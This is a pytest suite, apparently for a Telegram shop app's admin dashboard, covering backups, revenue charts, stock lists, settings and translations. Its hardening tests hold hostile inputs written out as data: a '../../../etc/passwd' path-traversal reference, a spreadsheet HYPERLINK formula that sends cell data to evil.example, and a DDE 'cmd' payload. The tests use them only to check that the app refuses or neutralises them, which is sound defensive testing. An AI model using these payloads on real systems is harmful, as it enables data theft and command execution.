    assert backup.headers["Content-Type"] == "application/vnd.sqlite3"
    path = admin.shop.backup_dir / "check.db"
    path.write_bytes(backup.content)
    copy = sqlite3.connect(path)
    assert copy.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    assert copy.execute("SELECT count(*) FROM orders").fetchone()[0] == 2
    copy.close()
    admin.shop.backup()  # the nightly job keeps the last 7
    for _ in range(8):
        admin.shop.backup_dir.joinpath(f"shop-2020010{_}-000000.db").write_bytes(b"")
    admin.shop.backup()
    assert len(list(admin.shop.backup_dir.glob("shop-*.db"))) == 7
    assert audit_actions(admin.shop.conn)[-3:] == [
        "orders exported",
        "ledger exported",
        "backup downloaded",
    ]


def test_the_dashboard_shows_sales_and_problems(admin, sale):
    page = admin.get("/admin").text
    assert "€25.00" in page and "1 paid order" in page and "Open invoices" in page
    assert '<svg class="chart revenue-chart"' in page
    assert admin.get("/admin/audit").text.count("logged in") >= 1


def chart_of(page):
    """The dashboard's revenue chart: (its aria-label, y tick labels bottom up, x date labels,
    {title: bar height})."""
    svg = re.search(r'<svg class="chart revenue-chart".*?</svg>', page, re.S).group(0)
    label = html.unescape(re.search(r'role="img" aria-label="([^"]*)"', svg).group(1))
    y_ticks = re.findall(r'<text class="ytick"[^>]*>([^<]*)</text>', svg)
    x_dates = re.findall(r'<text class="xtick"[^>]*>([^<]*)</text>', svg)
    bars = {
        title: float(height)
        for title, height in re.findall(
            r'<g><title>([^<]*)</title><rect class="hit"[^>]*/><rect class="bar"[^>]*'
            r'height="([0-9.]+)"/></g>',
            svg,
        )
    }
    return label, y_ticks, x_dates, bars


def test_the_revenue_chart_has_axes_dates_and_each_days_exact_total(admin):
    """Server-drawn: a y axis in round euros, dates every 7 days back from today, and a title per
    day with its exact total; with no sales, the axes and the words "no sales", not a blank box."""
    from datetime import datetime, timedelta, timezone

    today = datetime.now(timezone.utc)
    days = [today - timedelta(days=back) for back in range(29, -1, -1)]

    def short(d):
        return f"{d.day} {d:%b}"

    def long(d):
        return f"{d:%a} {d.day} {d:%b} {d.year}"

    label, y_ticks, x_dates, bars = chart_of(admin.get("/admin").text)
    assert "No sales in the last 30 days" in admin.get("/admin").text
    assert label.endswith(": no sales.") and y_ticks == ["€0"]
    assert x_dates == [short(days[i]) for i in (1, 8, 15, 22, 29)]
    assert len(bars) == 30 and set(bars.values()) == {0.0}
    assert bars[f"{long(days[-1])}: €0.00, 0 paid orders"] == 0

    conn = admin.shop.conn
    ids = seed(conn, [("Berlin", "Mitte", "Camera", 61728, 2), ("Berlin", "Mitte", "Pen", 250, 3)])
    buyer = user(conn, 31, balance=200000)
    big = shop.buy_with_balance(conn, buyer, [(*ids[("Camera", "Mitte")], 2)])  # €1234.56
    small = [shop.buy_with_balance(conn, buyer, [(*ids[("Pen", "Mitte")], 1)]) for _ in range(3)]
    with shop.transaction(conn):  # paid on other days (the per-day totals follow, by trigger)
        for order, back in ((big, 9), (small[0], 9), (small[1], 20)):
            when = (today - timedelta(days=back)).strftime("%Y-%m-%dT%H:%M:%S.000000Z")
            conn.execute("UPDATE orders SET paid_at = ? WHERE id = ?", (when, order))
    page = admin.get("/admin").text
    assert "No sales in the last 30 days" not in page
    label, y_ticks, x_dates, bars = chart_of(page)
    assert y_ticks == ["€0", "€500", "€1,000", "€1,500"]  # round steps above the best day
    assert x_dates == [short(days[i]) for i in (1, 8, 15, 22, 29)]
    assert len(bars) == 30
    best = f"{long(days[-10])}: €1,237.06, 2 paid orders"
    assert bars[best] == pytest.approx(160 * 123706 / 150000, abs=0.1)
    assert bars[f"{long(days[-21])}: €2.50, 1 paid order"] == 1.5  # small, but visible
    assert bars[f"{long(days[-1])}: €2.50, 1 paid order"] == 1.5
    assert bars[f"{long(days[-2])}: €0.00, 0 paid orders"] == 0
    assert label == (
        f"Revenue per day, {short(days[0])} to {short(days[-1])}: €1,242.06 from 4 paid orders; "
        f"best day {short(days[-10])} with €1,237.06."
    )
    numbers = re.search(r"<table class=\"chart-numbers\">.*?</table>", page, re.S).group(0)
    assert re.findall(r'<th scope="row">([^<]*)</th><td class="num">(\d+)</td>', numbers) == [
        (long(days[-1]), "1"),
        (long(days[-10]), "2"),
        (long(days[-21]), "1"),
    ]


def stock_list(page, card):
    """The dashboard's low-stock or sold-out list: [(product, place, note)]."""
    part = re.search(rf'<div class="card stock" id="{card}">.*?</div>', page, re.S).group(0)
    return [
        (html.unescape(name), html.unescape(place), " ".join(note.split()))
        for name, place, note in re.findall(
            r'<a href="/admin/products/\d+">([^<]*)</a> <span class="place">([^<]*)</span></span>'
            r"(.*?)</li>",
            part,
            re.S,
        )
    ]


def test_the_low_stock_threshold_decides_what_the_dashboard_lists(admin):
    conn = admin.shop.conn
    seed(
        conn,
        [
            ("Berlin", "Mitte", "Tea", 500, 1),
            ("Berlin", "Mitte", "Mug", 900, 2),
            ("Berlin", "Mitte", "Pen", 250, 3),
            ("Berlin", "Pankow", "Tea", 500, 2),
            ("Berlin", "Pankow", "Map", 300, 7),
            ("Lisbon", "Baixa", "Pen", 250, 1),  # a hidden city's: not on sale, not listed
        ],
    )
    conn.execute("UPDATE cities SET is_hidden = 1 WHERE name = 'Lisbon'")
    page = admin.get("/admin").text
    assert "At most 2 left in a place" in page  # the default threshold
    assert stock_list(page, "low-stock") == [
        ("Tea", "Berlin / Mitte", '<b class="left">1 left</b>'),
        ("Mug", "Berlin / Mitte", '<b class="left">2 left</b>'),
        ("Tea", "Berlin / Pankow", '<b class="left">2 left</b>'),
    ]
    shop.save_settings(conn, {"low_stock_threshold": "3"})
    page = admin.get("/admin").text
    assert "At most 3 left in a place" in page
    assert [(name, place) for name, place, _ in stock_list(page, "low-stock")] == [
        ("Tea", "Berlin / Mitte"),
        ("Mug", "Berlin / Mitte"),
        ("Tea", "Berlin / Pankow"),
        ("Pen", "Berlin / Mitte"),
    ]
    shop.save_settings(conn, {"low_stock_threshold": "1"})
    assert [row[:2] for row in stock_list(admin.get("/admin").text, "low-stock")] == [
        ("Tea", "Berlin / Mitte")
    ]
    shop.save_settings(conn, {"low_stock_threshold": "0"})  # 0: no low-stock list
    page = admin.get("/admin").text
    assert stock_list(page, "low-stock") == [] and "The low-stock list is off" in page
    shop.save_settings(conn, {"low_stock_threshold": "1000"})
    page = admin.get("/admin").text
    assert len(stock_list(page, "low-stock")) == 5 and "Nothing is sold out." in page
    more = [("Vienna", f"District {i:02d}", "Tea", 500, 1) for i in range(25)]
    seed(conn, more)
    page = admin.get("/admin").text  # the first 20, and how many more
    assert len(stock_list(page, "low-stock")) == 20 and "…and 10 more." in page


def test_sold_out_items_have_their_own_list(admin):
    """Sold out in a place (nothing available, the product active, the place visible, units there
    once) is listed on its own, even when the product is on sale elsewhere; units held by unpaid
    orders are told."""
    conn = admin.shop.conn
    ids = seed(
        conn,
        [
            ("Berlin", "Mitte", "Tea", 500, 1),
            ("Berlin", "Pankow", "Tea", 500, 5),
            ("Berlin", "Pankow", "Mug", 900, 2),
            ("Berlin", "Mitte", "Pen", 250, 1),
            ("Berlin", "Mitte", "Map", 300, 1),
            ("Berlin", "Wedding", "Map", 300, 1),
            ("Berlin", "Mitte", "Cup", 800, 0),  # never had units in Mitte: not sold out there
        ],
    )
    buyer = user(conn, 41, balance=100000)
    shop.buy_with_balance(conn, buyer, [(*ids[("Tea", "Mitte")], 1)])
    shop.buy_with_balance(conn, buyer, [(*ids[("Pen", "Mitte")], 1)])
    shop.buy_with_balance(conn, buyer, [(*ids[("Map", "Mitte")], 1)])
    shop.buy_with_balance(conn, buyer, [(*ids[("Map", "Wedding")], 1)])
    user(conn, 42)
    nonce = shop.create_checkout(conn, 42, "order", 1800, [(*ids[("Mug", "Pankow")], 2)])
    admin.shop.payments.open_order_invoice(42, nonce, "btc")  # holds both mugs
    with shop.transaction(conn):
        conn.execute("UPDATE products SET is_active = 0 WHERE name = 'Pen'")  # not sold any more
        conn.execute("UPDATE districts SET is_hidden = 1 WHERE name = 'Wedding'")
    page = admin.get("/admin").text
    assert stock_list(page, "sold-out") == [
        ("Map", "Berlin / Mitte", ""),
        ("Tea", "Berlin / Mitte", ""),
        (
            "Mug",
            "Berlin / Pankow",
            '<span class="held">2 held by unpaid orders: back on sale if not paid in time</span>',
        ),
    ]
    assert stock_list(page, "low-stock") == []  # Tea in Pankow has 5: neither low nor sold out
    plans = {
        name: [r["detail"] for r in conn.execute("EXPLAIN QUERY PLAN " + sql, args)]
        for name, sql, args in (
            ("low", shop._LOW_STOCK, (2, 20)),
            ("sold out", shop._SOLD_OUT, (20,)),
        )
    }
    for name, plan in plans.items():  # stock units only through indexes, never the sold ones
        units = [d for d in plan if re.match(r"(SCAN|SEARCH) [uare] ", d)]
        assert units and all("USING" in d and "INDEX" in d for d in units), (name, plan)
        assert all(d.startswith("SEARCH") or "stock_units_available" in d for d in units), plan


def test_the_low_stock_threshold_is_set_on_the_settings_page_and_the_command_line(admin):
    conn = admin.shop.conn
    seed(conn, [("Berlin", "Mitte", "Tea", 500, 4)])
    page = admin.get("/admin/settings").text
    assert re.search(r'name="low_stock_threshold" id="low_stock_threshold" value="2"', page)
    form = {
        "shop_name": "Demo Shop",
        "welcome_text": "Hi",
        "help_text": "Help",
        "min_deposit": "5.00",
        "reservation_minutes": "30",
        "low_stock_threshold": " 4 ",
    }
    assert admin.post("/admin/settings", form).status_code == 303
    assert shop.get_setting(conn, "low_stock_threshold") == "4"
    assert stock_list(admin.get("/admin").text, "low-stock") == [
        ("Tea", "Berlin / Mitte", '<b class="left">4 left</b>')
    ]
    for bad in ("1001", "-1", "two", ""):
        r = admin.post("/admin/settings", {**form, "low_stock_threshold": bad})
        assert r.status_code == 400 and "Nothing was saved" in r.text, bad
        assert "The low-stock threshold must be a whole number from 0 to 1000" in r.text, bad
    assert shop.get_setting(conn, "low_stock_threshold") == "4"
    for value, said, code in (("0", "low_stock_threshold set to 0\n", 0), ("1e3", "", 1)):
        r = subprocess.run(
            [sys.executable, str(ROOT / "shop.py"), "set", "low_stock_threshold", value],
            cwd=ROOT,
            env={"SHOP_DB": admin.shop.config.shop_db, "PATH": __import__("os").environ["PATH"]},
            capture_output=True,
            text=True,
            timeout=30,
        )
        assert (r.returncode, r.stdout) == (code, said), r.stderr
    assert "The low-stock threshold must be a whole number from 0 to 1000" in r.stderr
    page = admin.get("/admin").text  # while the shop runs, at once
    assert "The low-stock list is off" in page and stock_list(page, "low-stock") == []
    assert audit_actions(conn).count("settings changed") == 2


# Hardening: hostile input gets a 4xx, never a traceback or unbounded storage


def test_undecodable_headers_and_fields_get_a_400(admin):
    url = admin.shop.url
    for method, path, headers in (
        ("GET", "/admin", {"HX-Request": b"\xff"}),
        ("POST", "/admin/login", {"Origin": b"\xff"}),
        ("GET", "/api/me", {"X-Telegram-Init-Data": b"\xff"}),
        ("POST", "/webhook", {"x-nowpayments-sig": b"\xff"}),
    ):
        r = requests.request(method, url + path, headers=headers, data=b"{}", timeout=5)
        assert r.status_code == 400, (path, r.status_code)
    body = b'--b\r\nContent-Disposition: form-data; name="password"\r\n\r\n\xff\xfe\r\n--b--\r\n'
    r = requests.post(
        url + "/admin/login",
        data=body,
        timeout=5,
        headers={"Content-Type": "multipart/form-data; boundary=b; charset=nope"},
    )
    assert r.status_code == 400
    assert not [p for p in admin.shop.problems.records if p[1] == "ERROR"]


def test_huge_ids_and_bad_dates_are_not_found_not_a_crash(admin):
    big = "9" * 25
    for path in (
        f"/admin/products/{big}",
        f"/admin/orders/{big}",
        f"/admin/users/{big}",
        f"/admin/payments/{big}",
        f"/admin/broadcast/{big}",
    ):
        assert admin.get(path).status_code == 404, path
    assert admin.post(f"/admin/orders/{big}/refund", {"reason": "x"}).status_code == 404
    assert admin.post("/admin/districts", {"city_id": big, "name": "x"}).status_code == 303
    for q in ("?to=2024-99-99", "?to=9999-12-31", "?from=0000-01-01"):
        assert admin.get("/admin/orders" + q).status_code == 200, q
    page = admin.get("/admin/orders/123")
    assert (
        page.status_code == 404
        and "frame-ancestors 'none'" in page.headers["Content-Security-Policy"]
    )
    assert page.headers["Cache-Control"] == "no-store"


def test_refused_ipns_are_kept_short_and_bounded(make_shop):
    s = make_shop()
    s.payments.REFUSED_KEPT = 50
    body = json.dumps({"payment_id": 1, "payment_status": "finished", "junk": "x" * 60000}).encode()
    for _ in range(300):
        r = requests.post(
            s.url + "/webhook", data=body, headers={"x-nowpayments-sig": "00"}, timeout=5
        )
        assert r.status_code == 401
    conn = shop.connect(s.config.shop_db)
    count, longest = conn.execute("SELECT count(*), max(length(body)) FROM ipn_events").fetchone()
    assert count <= 150 and longest <= 512
    conn.close()


def test_concurrent_wrong_passwords_still_count(make_shop):
    import concurrent.futures

    s = make_shop(env={"ADMIN_PASSWORD": PASSWORD})
    with concurrent.futures.ThreadPoolExecutor(16) as pool:
        codes = list(
            pool.map(lambda _: AdminClient(s.url, PASSWORD).login("guess").status_code, range(40))
        )
    assert codes.count(403) == 5 and codes.count(429) == 35


def test_an_uploaded_catalog_cannot_name_the_servers_files(admin, tmp_path):
    conn = admin.shop.conn
    secret = admin.shop.config.media_dir / "private" / ("f" * 32 + ".png")
    secret.parent.mkdir(parents=True, exist_ok=True)
    secret.write_bytes(png())
    for ref in (str(secret), "../../../etc/passwd", "/dev/zero", "img/../../" + secret.name):
        catalog = {"cities": [], "products": [{"name": "P", "price": "1.00", "photo": ref}]}
        r = admin.post(
            "/admin/import", files={"file": ("c.json", json.dumps(catalog), "application/json")}
        )
        assert "outside the uploaded catalog" in r.text, ref
    assert conn.execute("SELECT count(*) FROM products").fetchone()[0] == 0
    for junk, words in (
        (b"PK\x03\x04" + b"\0" * 100, "not a valid ZIP"),
        (zip_of({"catalog.json": "{}", "a": "x", "a/b": "y"}), "cannot be read"),
    ):
        r = admin.post("/admin/import", files={"file": ("c.zip", junk, "application/zip")})
        assert r.status_code == 200 and words in r.text
    assert not any(admin.shop.import_dir.iterdir())  # nothing left behind


def test_one_photo_for_a_batch_of_units_is_stored_once(admin):
    conn = admin.shop.conn
    ids = seed(conn, [("Berlin", "Mitte", "Gift card", 2500, 0)])
    product, district = ids[("Gift card", "Mitte")]
    admin.post(
        f"/admin/products/{product}/units",
        {"district_id": district, "units": "\n".join(map(str, range(50)))},
        files={"media": ("l.png", png(), "image/png")},
    )
    assert conn.execute("SELECT count(DISTINCT media), count(*) FROM stock_units").fetchone()[
        :
    ] == (1, 50)
    assert len(list((admin.shop.config.media_dir / "private").iterdir())) == 1


# Trust under pressure (issue 10)


def session_works(a):
    return a.get("/admin", allow_redirects=False).status_code == 200


def test_changing_the_password_ends_every_session(make_shop, tmp_path):
    s = make_shop(env={"ADMIN_PASSWORD": PASSWORD})
    phone, desk = AdminClient(s.url, PASSWORD), AdminClient(s.url, PASSWORD)
    assert phone.login().status_code == 303 and desk.login().status_code == 303
    s.stop()
    env = {"SHOP_DB": s.config.shop_db}
    # A restart with the same ADMIN_PASSWORD keeps them; another password ends them, across the
    # restart.
    same = make_shop(env={**env, "ADMIN_PASSWORD": PASSWORD})
    phone.url = desk.url = same.url
    assert session_works(phone) and session_works(desk)
    same.stop()
    changed = make_shop(env={**env, "ADMIN_PASSWORD": "a brand new password"})
    phone.url = desk.url = changed.url
    assert not session_works(phone) and not session_works(desk)
    conn = shop.connect(s.config.shop_db)
    assert conn.execute("SELECT count(*) FROM admin_sessions").fetchone()[0] == 0
    assert "admin sessions ended" in audit_actions(conn)
    changed.stop()
    # Without ADMIN_PASSWORD: `python shop.py admin-password` while the shop runs ends the sessions
    # at once.
    stored = make_shop(env=env)
    owner = AdminClient(stored.url, stored.new_admin_password)
    assert owner.login(stored.new_admin_password).status_code == 303 and session_works(owner)
    r = subprocess.run(
        [sys.executable, str(ROOT / "shop.py"), "admin-password", "another long secret"],
        cwd=tmp_path,
        env={"SHOP_DB": s.config.shop_db, "PATH": __import__("os").environ["PATH"]},
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert r.returncode == 0, r.stderr
    assert not session_works(owner)
    assert owner.login("another long secret").status_code == 303 and session_works(owner)
    conn.close()


def test_log_out_everywhere_ends_every_browsers_session(admin):
    other = AdminClient(admin.url, PASSWORD)
    assert other.login().status_code == 303
    page = admin.get("/admin/settings").text
    assert (
        "Log out everywhere" in page
        and page.count("since ") == 2
        and page.count("this browser") == 1
    )
    r = admin.post("/admin/logout-everywhere")
    assert r.status_code == 303 and r.headers["Location"].endswith("/admin/login")
    assert not session_works(admin) and not session_works(other)
    assert admin.shop.conn.execute("SELECT count(*) FROM admin_sessions").fetchone()[0] == 0
    assert audit_actions(admin.shop.conn)[-1] == "logged out everywhere"
    assert (
        admin.post("/admin/logout-everywhere", csrf=False).status_code == 303
    )  # (to the login: no session)


def test_exported_cells_never_become_spreadsheet_formulas(admin):
    conn = admin.shop.conn
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    ids = seed(
        conn, [("Berlin", "Mitte", formula, 2500, 1), ("Berlin", "Mitte", "@SUM(1+1)", 100, 1)]
    )
    buyer = user(conn, 21, balance=10000)
    shop.buy_with_balance(conn, buyer, [(*ids[(formula, "Mitte")], 1)])
    shop.buy_with_balance(conn, buyer, [(*ids[("@SUM(1+1)", "Mitte")], 1)])
    shop.adjust_balance(conn, buyer, -500, "+cmd|' /C calc'!A0")
    shop.adjust_balance(conn, buyer, 100, "-2+3")
    conn.execute(
        "UPDATE users SET username = ? WHERE id = ?", ("\t=1+1", buyer)
    )  # as a forged initData could
    orders_csv = list(csv.reader(io.StringIO(admin.get("/admin/export/orders.csv").text)))
    column = orders_csv[0].index("items")
    items = [row[column] for row in orders_csv[1:]]
    assert items == ["'" + formula + " @ Berlin / Mitte", "'@SUM(1+1) @ Berlin / Mitte"]
    ledger = list(csv.reader(io.StringIO(admin.get("/admin/export/ledger.csv").text)))
    reasons = [row[6] for row in ledger[1:]]
    assert reasons[-2:] == ["'+cmd|' /C calc'!A0", "'-2+3"]
    assert [row[3] for row in ledger[1:]][-2:] == ["-5.00", "1.00"]  # numbers stay numbers
    orders_csv = list(csv.reader(io.StringIO(admin.get("/admin/export/orders.csv").text)))
    assert [row[7] for row in orders_csv[1:]] == ["'\t=1+1"] * 2
    for row in orders_csv[1:] + ledger[1:]:
        for cell in row:
            assert (
                not cell
                or cell[0] not in "=+@\t\r"
                and not (cell[0] == "-" and not re.fullmatch(r"-[\d.]+", cell))
            )


def test_adding_units_never_adds_a_code_twice(admin):
    conn = admin.shop.conn
    ids = seed(conn, [("Berlin", "Mitte", "Gift card", 2500, 0)])
    product, district = ids[("Gift card", "Mitte")]
    page = f"/admin/products/{product}"
    admin.post(f"{page}/units", {"district_id": district, "units": "A1\nA2\nA1"})
    assert admin.flash(page).startswith(
        "2 units added. 1 skipped: pasted more than once, so kept once (A1)."
    )
    admin.post(f"{page}/units", {"district_id": district, "units": "A1\nA3"})
    assert admin.flash(page).startswith(
        "1 unit added. 1 skipped: already in the shop for this product and district"
    )
    shop.buy_with_balance(
        conn, user(conn, 22, balance=2500), [(product, district, 1)]
    )  # A1 is sold now
    admin.post(f"{page}/units", {"district_id": district, "units": "A1\nA2\nA3"})
    assert admin.flash(page).startswith("0 units added. 3 skipped: already in the shop")
    assert sorted(c for (c,) in conn.execute("SELECT content FROM stock_units")) == [
        "A1",
        "A2",
        "A3",
    ]
    assert audit_actions(conn)[-1] == "units added"
    assert (
        "skipped 3 already in the shop"
        in conn.execute("SELECT details FROM audit_log ORDER BY id DESC").fetchone()[0]
    )


def test_from_payment_to_delivery_counts_every_paid_order(admin, sale):
    """Balance orders (the bot's and the Mini App's) count as much as crypto ones."""
    conn = admin.shop.conn
    paid, _ = sale
    assert "No paid order delivered in the last 30 days" in admin.get("/admin").text
    row = conn.execute(
        "SELECT id FROM outbox WHERE order_id = ? ORDER BY id LIMIT 1", (paid,)
    ).fetchone()
    shop.mark_outbox_sent(conn, row["id"], 77)
    page = admin.get("/admin").text
    assert "over 1 paid order (30 days)" in page and "No paid order delivered" not in page


# Languages: the owner's side


def audit_rows(conn, action):
    return [r[0] for r in conn.execute("SELECT details FROM audit_log WHERE action = ?", (action,))]


def field(page, name):
    """The value of an input or the text of a textarea named `name`, as the page shows it."""
    found = re.search(
        rf'<input name="{re.escape(name)}"[^>]*value="([^"]*)"|'
        rf'<textarea name="{re.escape(name)}"[^>]*>([^<]*)</textarea>',
        page,
    )
    assert found, name
    return html.unescape(found.group(1) if found.group(1) is not None else found.group(2))


def options(page, name):
    """The options of the select named `name`: [(value, "selected" or "", label)]."""
    select = re.search(rf'<select name="{name}".*?</select>', page, re.S).group(0)
    return re.findall(r'<option value="([^"]*)" ?(selected)?>([^<]*)</option>', select)


def test_a_product_has_its_name_and_description_in_each_language(admin, languages):
    conn = admin.shop.conn
    page = admin.get("/admin/products/new").text
    assert '<details class="translations" id="translations" >' in page  # closed
    assert "(0 of 3 languages)" in page
    for label in ("Deutsch (de)", "Polski (pl)", "Português (pt)"):
        assert f"<legend>{label}</legend>" in page
    assert "are in English (en), the shop's default language" in page
    form = {
        "name": "Gift card",
        "description": "Valid everywhere.",
        "price": "25.00",
        "active": "1",
        "name.de": " Geschenkkarte ",
        "description.de": "Überall gültig.\r\nDrei Jahre.",
        "name.pl": "Karta podarunkowa",
        "description.pl": "",
        "name.pt": "",
        "description.pt": "",
    }
    assert admin.post("/admin/products", form).status_code == 303
    product = conn.execute("SELECT * FROM products").fetchone()
    assert json.loads(product["translations"]) == {
        "de": {"name": "Geschenkkarte", "description": "Überall gültig.\nDrei Jahre."},
        "pl": {"name": "Karta podarunkowa"},
    }
    assert audit_rows(conn, "product added")[-1].endswith(
        "; name in de: '' -> 'Geschenkkarte'; name in pl: '' -> 'Karta podarunkowa'; "
        "description in de changed"
    )
    with shop.speaking("de"):
        assert shop.find_product(conn, product["id"])["name"] == "Gift card"  # the owner's row
        assert conn.execute(
            "SELECT shopper_text(name, translations, 'name') FROM products"
        ).fetchone()[0] == ("Geschenkkarte")
    path = f"/admin/products/{product['id']}"
    page = admin.get(path).text
    assert "(2 of 3 languages)" in page
    assert field(page, "name.de") == "Geschenkkarte"
    assert field(page, "description.de") == "Überall gültig.\nDrei Jahre."
    assert field(page, "name.pl") == "Karta podarunkowa" and field(page, "name.pt") == ""

    changed = {**form, "name.de": "Gutschein", "name.pl": "", "name.pt": "Cartão-oferta"}
    assert admin.post(path, changed).status_code == 303
    assert json.loads(conn.execute("SELECT translations FROM products").fetchone()[0]) == {
        "de": {"name": "Gutschein", "description": "Überall gültig.\nDrei Jahre."},
        "pt": {"name": "Cartão-oferta"},
    }
    assert audit_rows(conn, "product changed")[-1] == (
        f"#{product['id']} name in de: 'Geschenkkarte' -> 'Gutschein'; "
        "name in pl: 'Karta podarunkowa' -> ''; name in pt: '' -> 'Cartão-oferta'"
    )
    before = conn.execute("SELECT * FROM products").fetchall()
    for typed, said in (
        ({"name.de": "G" * 65}, "The product name in German (de) is longer than 64 characters"),
        ({"name.pl": "Karta\tpodarunkowa"}, "The product name in Polish (pl) must be one line"),
    ):
        r = admin.post(path, {**changed, **typed})
        assert r.status_code == 400 and said in html.unescape(r.text), typed
        assert '<details class="translations" id="translations" open>' in r.text  # as typed
        assert field(r.text, next(iter(typed))) == next(iter(typed.values()))
    assert [tuple(r) for r in conn.execute("SELECT * FROM products")] == [tuple(r) for r in before]

    row = {"name": "Gift card", "price": "26.00", "active": "1"}  # the catalog's row: no languages
    assert admin.post(f"{path}/row", row).status_code == 303
    assert json.loads(conn.execute("SELECT translations FROM products").fetchone()[0]) == {
        "de": {"name": "Gutschein", "description": "Überall gültig.\nDrei Jahre."},
        "pt": {"name": "Cartão-oferta"},
    }


def test_a_shop_in_one_language_says_how_to_add_another(admin, tmp_path, monkeypatch):
    monkeypatch.setattr(shop, "LOCALES_DIR", tmp_path / "no-catalogs")  # English only
    page = admin.get("/admin/products/new").text
    assert 'name="name.' not in page and "Translations" not in page
    assert "the shop speaks English (en) only; add a language as the README" in page
    settings = admin.get("/admin/settings").text
    assert options(settings, "default_language") == [("en", "selected", "English (en)")]
    assert "The shop speaks English (en) only: to add a language, see the README" in settings


def settings_form(**changes):
    return {
        "shop_name": "Demo Shop",
        "welcome_text": "Welcome!",
        "help_text": "Help",
        "min_deposit": "5.00",
        "reservation_minutes": "30",
        "default_language": "en",
        **changes,
    }


def test_settings_take_the_default_language_and_the_owners_texts_in_other_languages(
    admin, languages
):
    conn = admin.shop.conn
    page = admin.get("/admin/settings").text
    assert options(page, "default_language") == [
        ("en", "selected", "English (en)"),
        ("de", "", "Deutsch (de)"),
        ("pl", "", "Polski (pl)"),
        ("pt", "", "Português (pt)"),
    ]
    for code in languages:
        assert f'<details class="lang-texts" id="texts-{code}" >' in page
        for key in shop.SHOPPER_TEXTS:
            assert field(page, f"{key}.{code}") == ""
    # while a box is empty, it shows what shoppers in that language read: the default language's
    assert 'name="welcome_text.de" lang="de" rows="3" maxlength="1000" placeholder="' in page
    assert re.search(r'name="terms_text.pl"[^>]*placeholder="Demo Shop sells the goods', page)

    form = settings_form(
        **{"welcome_text.de": "Willkommen!", "help_text.de": "Hilfe", "welcome_text.pl": "Witaj!"}
    )
    assert admin.post("/admin/settings", form).status_code == 303
    assert admin.flash("/admin/settings") == (
        "Settings saved: welcome text, help text, help text in de, welcome text in de, welcome "
        "text in pl."
    )
    assert shop.translated_texts(conn) == {
        "help_text.de": "Hilfe",
        "welcome_text.de": "Willkommen!",
        "welcome_text.pl": "Witaj!",
    }
    assert audit_rows(conn, "settings changed")[-1] == (
        "welcome_text, help_text, help_text.de, welcome_text.de, welcome_text.pl"
    )
    read = {}
    for code in ("en", "de", "pl", "pt"):
        with shop.speaking(code):
            read[code] = [shop.shop_text(conn, key) for key in ("welcome_text", "help_text")]
    assert read == {
        "en": ["Welcome!", "Help"],
        "de": ["Willkommen!", "Hilfe"],
        "pl": ["Witaj!", "Help"],
        "pt": ["Welcome!", "Help"],  # none in Portuguese: the default language's
    }
    page = admin.get("/admin/settings").text
    assert 'Deutsch (de) <span class="muted">(2 of 4 written)' in page
    assert field(page, "welcome_text.de") == "Willkommen!"

    before = conn.execute("SELECT * FROM settings ORDER BY key").fetchall()
    for code in ("xx", "it", "DE!", ""):
        r = admin.post("/admin/settings", {**form, "default_language": code, "help_text.pl": "P"})
        assert r.status_code == 400, code
        assert (
            "The default language must be one the shop speaks: en, de, pl, pt; got "
            f"{code!r}. Nothing was saved."
        ) in html.unescape(r.text)
        assert field(r.text, "help_text.pl") == "P"  # as typed
    too_long = admin.post("/admin/settings", {**form, "help_text.pt": "x" * 2001})
    assert too_long.status_code == 400
    assert "The help text in Portuguese (pt) is longer than 2000 characters" in too_long.text
    assert conn.execute("SELECT * FROM settings ORDER BY key").fetchall() == before

    # German becomes the default: the owner's German texts become the default ones, and what
    # English shoppers read is kept as the English ones
    assert admin.post("/admin/settings", {**form, "default_language": "de"}).status_code == 303
    assert shop.default_language(conn) == "de"
    assert shop.get_setting(conn, "welcome_text") == "Willkommen!"
    assert shop.translated_texts(conn) == {
        "help_text.en": "Help",
        "welcome_text.en": "Welcome!",
        "welcome_text.pl": "Witaj!",
    }
    for code, welcome in (("en", "Welcome!"), ("de", "Willkommen!"), ("pt", "Willkommen!")):
        with shop.speaking(code):
            assert shop.shop_text(conn, "welcome_text") == welcome, code
    assert audit_rows(conn, "settings changed")[-1] == (
        "default_language, welcome_text, welcome_text.de, welcome_text.en, help_text, "
        "help_text.de, help_text.en"
    )
    page = admin.get("/admin/settings").text
    assert '<option value="de" selected>Deutsch (de)</option>' in page
    assert 'id="texts-en"' in page and 'id="texts-de"' not in page
    assert field(page, "welcome_text") == "Willkommen!" and field(page, "help_text.en") == "Help"


def test_a_text_in_another_language_is_set_on_the_command_line(tmp_path, languages, capsys):
    db = str(tmp_path / "cli.db")
    config = shop.load_config(environ={"SHOP_DB": db}, env_file=None)

    def run(*argv):
        status = shop.run_command(shop.parse_args(["set", *argv]), config)
        out = capsys.readouterr()
        return status, out.out, out.err

    assert run("welcome_text.de", " Willkommen!\nSchön, dass du da bist. ") == (
        0,
        "welcome_text.de set to 'Willkommen!\\nSchön, dass du da bist.'\n",
        "",
    )
    assert run("welcome_text.de") == (0, "Willkommen!\nSchön, dass du da bist.\n", "")
    listed = run()[1].splitlines()
    assert listed[-12:] == [
        "welcome_text.de: 'Willkommen!\\nSchön, dass du da bist.'",
        "help_text.de: ''",
        "terms_text.de: ''",
        "paysupport_text.de: ''",
        *(f"{key}.{code}: ''" for code in ("pl", "pt") for key in shop.SHOPPER_TEXTS),
    ]
    assert run("help_text.pl", "x" * 2001)[1:] == (
        "",
        "shop.py: The help text in Polish (pl) is longer than 2000 characters\n",
    )
    assert run("default_language", "pl")[:2] == (0, "default_language set to pl\n")
    conn = shop.connect(db)
    with shop.speaking("de"):
        assert shop.shop_text(conn, "welcome_text") == "Willkommen!\nSchön, dass du da bist."
    assert [tuple(r) for r in conn.execute("SELECT action, details, remote_addr FROM audit_log")][
        0
    ] == ("settings changed", "welcome_text.de", "command line")
    conn.close()
    for wrong in ("welcome_text.it", "shop_name.de", "welcome_text."):
        with pytest.raises(SystemExit):
            shop.parse_args(["set", wrong, "x"])
        assert f"invalid choice: {wrong!r}" in capsys.readouterr().err
    assert (
        "TEXT.LANG"
        in subprocess.run(
            [sys.executable, str(ROOT / "shop.py"), "set", "--help"],
            capture_output=True,
            text=True,
            timeout=30,
        ).stdout
    )


def test_the_admin_speaks_english_whatever_the_thread_spoke_before(admin, languages):
    def page(shop_):
        return shop.fmt_eur(123456), shop.current_language().code

    with shop.speaking("de"):  # a shopper's request just before, on the same thread
        assert shop.admin_in_english(page, admin.shop) == ("€1,234.56", "en")
        assert shop.fmt_eur(123456) == "1.234,56\u00a0€"
